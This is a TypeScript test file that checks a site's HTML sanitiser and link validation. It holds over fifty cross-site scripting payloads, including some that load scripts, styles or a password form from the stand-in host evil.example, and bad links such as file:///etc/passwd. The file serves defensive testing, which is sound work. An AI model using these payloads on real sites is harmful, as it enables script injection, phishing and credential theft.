import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bannerSection,
  contactSection,
  faqSection,
  footerSection,
  navbarSection,
  termsSection,
  testimonialSection,
} from '#contract/site-content.ts';
import type { HttpClient } from '#tests/support/http-client.ts';
import { startTestApp, type TestApp } from '#tests/support/test-app.ts';
import { sanitiseHtml } from './sanitise-html.ts';

let app: TestApp;
let admin: HttpClient;
beforeAll(async () => {
  app = await startTestApp();
  admin = await app.signUpAdmin();
});
afterAll(() => app.close());

/** Markup known to run, load or submit something in some browser or past some sanitiser. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x0btype="text/javascript">alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<style>body{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '<p id="__proto__" name="cookie">x</p>',
  '<span class="fixed inset-0 bg-paper bi">x</span>',
  '<i class="bi bi-star&quot; onclick=&quot;alert(1)">x</i>',
  '<b>x</b'.repeat(40),
  `${'<ul><li>'.repeat(200)}<img src=x onerror=alert(1)>`,
];

const ALLOWED =
  /^<\/?(p|br|hr|h2|h3|h4|ul|ol|li|blockquote|a|b|strong|i|em|u|s|small|sub|sup|mark|code|span)(\s|\/?>)/;
const ALLOWED_ATTRIBUTE =
  /^(href="(https?:|mailto:|tel:|\/(?!\/)|#)[^"\\]*"|title="[^"]*"|class="((bi|fa[srb]?)(-[a-z0-9]+)*( |(?=")))*"|aria-hidden="[^"]*")$/;

/** Everything in a piece of HTML that is not allowed, read as a browser reads well-formed text. */
function dangersIn(html: string): string[] {
  return (
    html.match(/<[^>]*>?/g)?.flatMap((tag) => {
      if (!ALLOWED.test(tag)) return [tag];
      const attributes = tag.replace(/^<\/?[a-z0-9]+\s*|\s*\/?>$/g, '').match(/[^\s=]+(="[^"]*")?/g) ?? [];
      return attributes.filter((attribute) => !ALLOWED_ATTRIBUTE.test(attribute));
    }) ?? []
  );
}

/** Every HTML field, with a way to store `html` in it and read it back. */
const [info] = contactSection.defaults.contactInfo;
const htmlPlaces = [
  {
    path: testimonialSection.path,
    contentWith: (html: string) => ({ ...testimonialSection.defaults, sectionTitle: `Title ${html}` }),
    read: (data: typeof testimonialSection.defaults) => data.sectionTitle,
  },
  {
    path: contactSection.path,
    contentWith: (html: string) => ({
      ...contactSection.defaults,
      contactInfo: [{ ...info, content: `Content ${html}` }],
    }),
    read: (data: typeof contactSection.defaults) => data.contactInfo[0]?.content ?? '',
  },
  {
    path: termsSection.path,
    contentWith: (html: string) => ({ ...termsSection.defaults, content: `Text ${html}` }),
    read: (data: typeof termsSection.defaults) => data.content,
  },
  {
    path: faqSection.path,
    contentWith: (html: string) => ({
      ...faqSection.defaults,
      questions: [{ id: 'question1', question: 'Why?', answer: `Answer ${html}` }],
    }),
    read: (data: typeof faqSection.defaults) => data.questions[0]?.answer ?? '',
  },
] as const;

describe('HTML fields', () => {
  it('the samples are really dangerous', () => {
    const harmless = payloads.filter((payload) => dangersIn(payload).length === 0);
    expect(payloads.length).toBeGreaterThan(50);
    expect(harmless.filter((payload) => !/\\u0001|<b>x<\/b/.test(payload))).toEqual([]);
  });

  for (const { path, contentWith, read } of htmlPlaces) {
    it(`${path}: nothing dangerous is stored or returned`, async () => {
      const findings: unknown[] = [];
      for (const payload of payloads) {
        const saved = await admin.put(path, contentWith(payload));
        if (saved.status !== 200) {
          // Length is the only reason to refuse.
          expect([payload.length > 400, saved.status]).toEqual([true, 400]);
          continue;
        }
        const stored = read(saved.body.data);
        const shown = read((await app.client().get(path)).body.data);
        const { rows } = await app.database.query(
          'select content from site_sections order by updated_at desc limit 1',
        );
        const kept = read(rows[0].content);
        if (stored !== shown || stored !== kept) findings.push([payload, stored, shown, kept]);
        const dangers = dangersIn(stored);
        if (dangers.length > 0) findings.push([payload, dangers]);
      }
      expect(findings).toEqual([]);
    });

    it(`${path}: content stored by an older version is sanitised when it is read`, async () => {
      const { version } = (await admin.put(path, contentWith('<b>fine</b>'))).body;
      const smuggled = JSON.stringify(contentWith('<b>fine</b><img src=x onerror=alert(1)>'));
      await app.database.query('update site_sections set content = $1 where version = $2 and content = $3', [
        smuggled,
        version,
        JSON.stringify(contentWith('<b>fine</b>')),
      ]);
      app.context.contentVersion.bump();
      const shown = read((await app.client().get(path)).body.data);
      expect(shown).toMatch(/ <b>fine<\/b>$/);
    });
  }

  it('keeps allowed markup, however often it is sanitised', () => {
    const html =
      '<h2>Title</h2><p>Text &amp; <a href="https://a.example/?b=1&amp;c=2" title="t">link</a>, <a href="#x">place</a>, <a href="mailto:a@example.com">mail</a></p><ul><li><i class="bi bi-star" aria-hidden="true"></i> <i class="fas fa-star"></i></li></ul>';
    expect(sanitiseHtml(html)).toBe(html);
    for (const payload of payloads) expect(sanitiseHtml(sanitiseHtml(payload))).toBe(sanitiseHtml(payload));
  });

  it('a title left empty by sanitising is refused, and the stored one is kept', async () => {
    const { path, contentWith } = htmlPlaces[0];
    await admin.put(path, contentWith('stays'));
    const refused = await admin.put(path, {
      ...testimonialSection.defaults,
      sectionTitle: '<script>alert(1)</script>',
    });
    expect([refused.status, refused.body.message]).toEqual([400, 'Please enter a title']);
    expect(refused.body.issues).toEqual([{ path: ['sectionTitle'], message: 'Please enter a title' }]);
    expect((await admin.get(path)).body.data.sectionTitle).toBe('Title stays');
  });

  it('text that sanitising makes too long is refused instead of failing later', async () => {
    const answer = await admin.put(testimonialSection.path, {
      ...testimonialSection.defaults,
      sectionTitle: '&'.repeat(499),
    });
    expect([answer.status, answer.body.message]).toEqual([400, 'At most 500 characters']);
    expect((await admin.get(testimonialSection.path)).status).toBe(200);
  });
});

describe('links, images and icons', () => {
  const badLinks = [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    'https:evil.example',
    'http://',
    'evil.example',
    'blob:https://x/y',
    '/a b',
  ];
  it.each(badLinks)('%j is not a link', async (link) => {
    const [item] = navbarSection.defaults.menuItems;
    const [social] = footerSection.defaults.socialLinks;
    const answers = [
      await admin.put(navbarSection.path, { ...navbarSection.defaults, menuItems: [{ ...item, link }] }),
      await admin.put(footerSection.path, {
        ...footerSection.defaults,
        socialLinks: [{ ...social, url: link }],
      }),
    ];
    for (const answer of answers) expect([answer.status, answer.body.code]).toEqual([400, 'invalid_request']);
    expect(answers[0]?.body.issues[0].path).toEqual(['menuItems', '0', 'link']);
  });

  it.each([
    '/pricing',
    '/#contact',
    '#contact',
    'https://a.example/x?y=1#z',
    'http://a.example',
    'mailto:a@b.example',
    'tel:+4930123',
  ])('%j is a link', async (link) => {
    const [item] = navbarSection.defaults.menuItems;
    const answer = await admin.put(navbarSection.path, {
      ...navbarSection.defaults,
      menuItems: [{ ...item, link }],
    });
    expect([answer.status, answer.body.data?.menuItems[0].link]).toEqual([200, link]);
  });

  it.each([
    ['backgroundImage', 'javascript:alert(1)'],
    ['backgroundImage', 'data:image/svg+xml,<svg onload=alert(1)>'],
    ['backgroundImage', '/x.webp");background:url("//evil.example'],
    ['backgroundImage', '//evil.example/x.png'],
    ['features', [{ id: 'feature1', icon: 'bi bi-star fixed inset-0', text: 'x' }]],
    ['features', [{ id: 'feature1', icon: '"><script>', text: 'x' }]],
    ['media', { type: 'youtube', imageUrl: '', youtubeUrl: 'javascript:alert(1)//dQw4w9WgXcQ' }],
  ])('banner %s = %j is refused', async (field, value) => {
    const answer = await admin.put(bannerSection.path, { ...bannerSection.defaults, [field]: value });
    expect(answer.status).toBe(400);
  });

  it('texts are kept as typed, because pages show them as text', async () => {
    const title = '<img src=x onerror=alert(1)> & "quotes" 🛋️ עברית';
    const answer = await admin.put(bannerSection.path, { ...bannerSection.defaults, title });
    expect(answer.body.data.title).toBe(title);
  });
});
